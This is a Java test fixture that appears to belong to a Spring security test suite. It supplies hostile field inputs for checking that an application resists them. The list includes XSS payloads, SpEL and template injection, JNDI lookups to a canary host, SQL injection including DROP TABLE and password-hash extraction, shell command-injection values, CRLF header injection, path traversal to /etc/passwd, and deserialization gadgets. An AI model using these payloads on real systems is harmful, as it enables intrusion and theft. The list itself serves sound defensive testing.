package io.registrysync.spring.security;

import java.util.List;

/** What people write into fields who mean no good, or whose keyboard has more than letters. */
final class HostileTexts {
    /** Almost as long as a body may be. */
    static final String LONG = "long ".repeat(180_000);

    private HostileTexts() {}

    /**
     * All of them.
     *
     * @param canary where nobody may call
     * @param file   what nobody may make
     */
    static List<String> all(String canary, String file) {
        return List.of(
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "javascript:alert(1)//",
                "';alert(1)//\\';alert(1)//",
                "</textarea><iframe srcdoc='<script>alert(1)</script>'>",
                "{{constructor.constructor('alert(1)')()}}",
                "${7*7}#{7*7}*{7*7}<%= 7*7 %>[[${7*7}]]",
                "#{T(java.lang.Runtime).getRuntime().exec('touch " + file + "')}",
                "${jndi:ldap://" + canary + "/a}",
                "${${lower:j}ndi:rmi://" + canary + "/${env:PATH}}",
                "${registry-sync.security.admin-password}",
                "' OR '1'='1",
                "'; DROP TABLE sync_user; --",
                "x' UNION SELECT password_hash FROM sync_user /*",
                "%' ESCAPE '!' OR 1=1 --",
                "%_%!_[a-z]%",
                "id;desc,(select 1)",
                "; touch " + file,
                "$(touch " + file + ")",
                "`touch " + file + "`",
                "| touch " + file + " &",
                "--output=" + file,
                "x\r\nSet-Cookie: registry_sync_session=evil",
                "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<html>",
                "x\n2026-01-01 ERROR a line that nobody wrote",
                "nul\0byte",
                "\u001b[2J\u001b]0;owned\u0007\u001b[31m",
                "\u0001\u0008\u007f\u009b31m",
                "gnp.\u202eexe\u202c\u2066\u2069",
                "half \ud800 of it",
                "other half \udc00",
                "../../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "file:///etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd%00.png",
                "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://" + canary + "/\"]]",
                "&a [*a, *a]",
                "{\"@class\":\"java.lang.Runtime\"}",
                "汉字".repeat(2_000),
                "\ud83d\udc69\u200d\ud83d\ude80".repeat(100),
                "zero\u200bwidth\u200d\ufeff\u00ad",
                "Z\u0351\u036b\u0343\u036a\u0302\u036b".repeat(200),
                "ﬁ ſ İ ı ß K Å",
                "(".repeat(400),
                "(a|a)*".repeat(80),
                " ",
                "-1e999999",
                LONG);
    }
}
